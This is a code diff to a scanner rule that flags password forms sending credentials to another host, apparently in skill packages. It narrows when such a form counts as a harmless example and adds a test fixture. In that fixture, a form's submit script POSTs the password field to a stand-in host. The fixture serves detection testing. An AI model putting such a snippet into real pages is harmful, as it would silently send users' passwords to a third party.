@@ -97,13 +97,20 @@ export const CONTENT_RULES: readonly Rule[] = [
     context: 'Warn when the form goes to the skill’s own vendor, or stands in an example of code.',
     judge(fact, context) {
       if (fact.how !== 'password form') return undefined;
-      const isExample = fact.unit.kind === 'block' || context.isOwn(fact.host);
+      // The name of a skill proves nothing about a host: whoever wrote the one chose the other.
+      const isExample = fact.unit.kind === 'block' || context.isHome(fact.host);
       return {
         severity: isExample ? 'warn' : 'high',
         message: `A password is sent to ${fact.host ?? 'another host'}.`,
       };
     },
-    reports: [{ 'login.html': '<form action="https://login.example.invalid/"><input type="password"></form>' }],
+    reports: [
+      { 'login.html': '<form action="https://login.example.invalid/"><input type="password"></form>' },
+      {
+        'login.html':
+          '<form id="f"><input type="password" name="p"></form><script>f.onsubmit = () => fetch("https://login.example.invalid/", { method: "POST", body: new FormData(f) })</script>',
+      },
+    ],
     passes: [{ 'login.html': '<form action="/login"><input type="password"></form>' }],
   }),
   rule({
